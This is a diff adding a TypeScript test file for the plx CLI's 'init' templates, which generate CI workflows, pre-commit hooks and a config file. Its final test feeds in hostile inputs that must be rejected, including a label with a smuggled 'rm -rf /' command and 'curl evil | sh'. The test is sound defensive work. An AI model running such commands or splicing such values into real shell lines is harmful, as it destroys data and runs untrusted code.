@@ -1,0 +1,178 @@
+import { describe, expect, it } from "vitest";
+import { parse, parseAllDocuments } from "yaml";
+import { configFileSchema } from "../../../src/config/schema.js";
+import { isPlxError } from "../../../src/errors.js";
+import { type InitChoices, initFiles } from "../../../src/init/templates.js";
+import { Redactor } from "../../../src/redact.js";
+
+/** Every plx flag the generated files may use, per command. */
+const KNOWN_FLAGS: Record<string, string[]> = {
+  check: [],
+  diff: ["--comment", "--exit-code", "--json", "--name-only", "--stat", "--label"],
+  publish: ["--label", "--yes", "--dry-run", "--force", "-m", "--plan", "--plan-out", "--json"],
+  "eval-report": ["--comment", "--fail-under", "--max-failures", "--junit", "--format", "--prompt", "--table", "--no-upload", "--json"],
+};
+
+const base: InitChoices = { ci: "github", hooks: true, promptsDir: "prompts", label: "prod" };
+const variants: InitChoices[] = [
+  base,
+  { ...base, ci: "gitlab" },
+  { ...base, ci: "none", hooks: false },
+  { ...base, ci: "none", hooks: true, promptsDir: "./llm/prompts/", baseUrl: "https://pl.example.com/", label: "staging.v2" },
+  { ...base, ci: "gitlab", hooks: true, branch: "trunk", plxCommand: "npx --yes plx@0.1.0" },
+];
+
+/** Every string anywhere in a parsed YAML value. */
+function strings(value: unknown): string[] {
+  if (typeof value === "string") return [value];
+  if (Array.isArray(value)) return value.flatMap(strings);
+  if (value && typeof value === "object") return Object.entries(value).flatMap(([k, v]) => [k, ...strings(v)]);
+  return [];
+}
+
+/** `plx <command> <args…>` invocations in a shell line, args up to the next shell separator. */
+function plxInvocations(text: string): Array<{ command: string; args: string[] }> {
+  const found: Array<{ command: string; args: string[] }> = [];
+  for (const line of text.split("\n")) {
+    const pattern = /(?:^|[\s/])plx(?:@\S+)?\s+([a-z][a-z-]*)((?:\s+(?![;&|]|then\b|fi\b)[^\s;&|]+)*)/g;
+    for (const match of line.matchAll(pattern)) found.push({ command: match[1]!, args: match[2]!.trim().split(/\s+/).filter(Boolean) });
+  }
+  return found;
+}
+
+describe("initFiles", () => {
+  it.each(variants)("writes files that parse as YAML (%o)", (choices) => {
+    const files = initFiles(choices);
+    for (const file of files) {
+      if (file.path.endsWith(".gitkeep")) {
+        expect(file.content).toBe("");
+        continue;
+      }
+      const docs = parseAllDocuments(file.content);
+      for (const doc of docs) expect(doc.errors, `${file.path}: ${doc.errors.join("\n")}`).toEqual([]);
+      expect(docs).toHaveLength(1);
+    }
+    expect(new Set(files.map((f) => f.path)).size).toBe(files.length);
+  });
+
+  it("picks the files by the choices", () => {
+    expect(initFiles(base).map((f) => f.path)).toEqual([
+      "plx.config.yaml",
+      "prompts/.gitkeep",
+      ".github/workflows/plx-pr.yml",
+      ".github/workflows/plx-deploy.yml",
+      ".pre-commit-config.yaml",
+    ]);
+    expect(initFiles({ ...base, ci: "gitlab", hooks: false }).map((f) => f.path)).toEqual(["plx.config.yaml", "prompts/.gitkeep", ".gitlab-ci.yml"]);
+    expect(initFiles({ ...base, ci: "none", hooks: false, promptsDir: "./a/b/" }).map((f) => f.path)).toEqual(["plx.config.yaml", "a/b/.gitkeep"]);
+  });
+
+  it.each(variants)("uses only plx flags that exist (%o)", (choices) => {
+    let invocations = 0;
+    for (const file of initFiles(choices)) {
+      if (file.path.endsWith(".gitkeep") || file.path === "plx.config.yaml") continue;
+      for (const text of strings(parse(file.content))) {
+        for (const { command, args } of plxInvocations(text)) {
+          invocations += 1;
+          expect(Object.keys(KNOWN_FLAGS), `${file.path}: plx ${command}`).toContain(command);
+          for (const arg of args.filter((a) => a.startsWith("-"))) {
+            expect(KNOWN_FLAGS[command], `${file.path}: plx ${command} ${arg}`).toContain(arg.split("=")[0]);
+          }
+        }
+      }
+    }
+    if (choices.ci !== "none" || choices.hooks) expect(invocations).toBeGreaterThan(0);
+  });
+
+  it("writes a config the config schema accepts", () => {
+    for (const choices of variants) {
+      const config = initFiles(choices).find((f) => f.path === "plx.config.yaml")!;
+      const parsed = configFileSchema.parse(parse(config.content));
+      expect(parsed.promptsDir).toBe(choices.promptsDir.replace(/^\.\//, "").replace(/\/$/, ""));
+      expect(parsed.baseUrl).toBe(choices.baseUrl?.replace(/\/$/, ""));
+    }
+  });
+
+  it("never holds a secret value, only references", () => {
+    const redactor = new Redactor();
+    for (const choices of variants) {
+      for (const file of initFiles(choices)) {
+        expect(redactor.redact(file.content), file.path).toBe(file.content);
+        for (const match of file.content.matchAll(/PROMPTLAYER_API_KEY:\s*(.*)/g)) {
+          expect(match[1]).toBe("${{ secrets.PROMPTLAYER_API_KEY }}");
+        }
+      }
+    }
+  });
+
+  it("builds the GitHub workflows as asked", () => {
+    const files = Object.fromEntries(initFiles(base).map((f) => [f.path, parse(f.content)]));
+    const pr = files[".github/workflows/plx-pr.yml"];
+    const runs = pr.jobs.plx.steps.map((s: { run?: string }) => s.run).filter(Boolean);
+    expect(runs).toEqual(["npx plx check", "npx plx diff --comment", "npx plx eval-report results.json --comment --fail-under score=0.8"]);
+    expect(pr.jobs.plx.steps[0].uses).toBe("actions/checkout@v4");
+    expect(pr.jobs.plx.steps[1]).toEqual({ uses: "actions/setup-node@v4", with: { "node-version": "22" } });
+    expect(pr.permissions["pull-requests"]).toBe("write");
+    expect(pr.on.pull_request.paths).toContain("prompts/**");
+
+    const deploy = files[".github/workflows/plx-deploy.yml"];
+    expect(deploy.on.push.branches).toEqual(["main"]);
+    expect(deploy.jobs.publish.concurrency).toEqual({ group: "plx-deploy", "cancel-in-progress": false });
+    const publish = deploy.jobs.publish.steps.find((s: { run?: string }) => s.run?.includes("publish"));
+    expect(publish.run).toBe("npx plx publish --label prod --yes");
+    expect(publish.env).toEqual({ PROMPTLAYER_API_KEY: "${{ secrets.PROMPTLAYER_API_KEY }}" });
+    // Nothing from a secret or an input is spliced into run: text.
+    for (const step of [...pr.jobs.plx.steps, ...deploy.jobs.publish.steps]) expect(step.run ?? "").not.toContain("${{");
+  });
+
+  it("builds the GitLab jobs as asked", () => {
+    const ci = parse(initFiles({ ...base, ci: "gitlab", label: "live" }).find((f) => f.path === ".gitlab-ci.yml")!.content);
+    const mr = ci["plx-merge-request"];
+    expect(mr.rules[0].if).toBe('$CI_PIPELINE_SOURCE == "merge_request_event"');
+    expect(mr.artifacts.reports).toEqual({ codequality: "gl-code-quality-report.json", junit: "plx-junit.xml" });
+    expect(mr.variables.PLX_CODE_QUALITY_REPORT).toBe("gl-code-quality-report.json");
+    const deploy = ci["plx-deploy"];
+    expect(deploy.resource_group).toBe("plx-deploy");
+    expect(deploy.rules[0].if).toBe('$CI_COMMIT_BRANCH == "main"');
+    expect(deploy.script).toContain("npx plx publish --label live --yes");
+    expect(JSON.stringify(ci)).not.toMatch(/PROMPTLAYER_API_KEY|PLX_GITLAB_TOKEN/);
+  });
+
+  it("writes pre-commit hooks for the prompts directory", () => {
+    const config = parse(initFiles({ ...base, ci: "none", promptsDir: "my.prompts" }).find((f) => f.path === ".pre-commit-config.yaml")!.content);
+    const [check, diff] = config.repos[0].hooks;
+    expect(check).toMatchObject({ id: "plx-check", entry: "npx plx check", pass_filenames: true });
+    const files = new RegExp(check.files);
+    expect(files.test("my.prompts/support/triage.prompt.yaml")).toBe(true);
+    expect(files.test("myXprompts/a.prompt.yaml")).toBe(false);
+    expect(files.test("my.prompts/notes.yaml")).toBe(false);
+    expect(diff).toMatchObject({ id: "plx-diff", entry: "npx plx diff --exit-code", pass_filenames: false, always_run: true, stages: ["pre-push"] });
+    expect(config.default_install_hook_types).toEqual(["pre-commit", "pre-push"]);
+  });
+
+  it("rejects values that would be unsafe in YAML or shell", () => {
+    const bad: Array<Partial<InitChoices>> = [
+      { promptsDir: "../outside" },
+      { promptsDir: "/abs" },
+      { promptsDir: "a b" },
+      { promptsDir: "" },
+      { label: "prod; rm -rf /" },
+      { label: "" },
+      { baseUrl: "ftp://x" },
+      { baseUrl: "https://user:pass@x" },
+      { branch: "main\nx" },
+      { plxCommand: "curl evil | sh" },
+    ];
+    for (const change of bad) {
+      const error = (() => {
+        try {
+          initFiles({ ...base, ...change });
+        } catch (e) {
+          return e;
+        }
+        return undefined;
+      })();
+      expect(isPlxError(error), JSON.stringify(change)).toBe(true);
+    }
+  });
+});
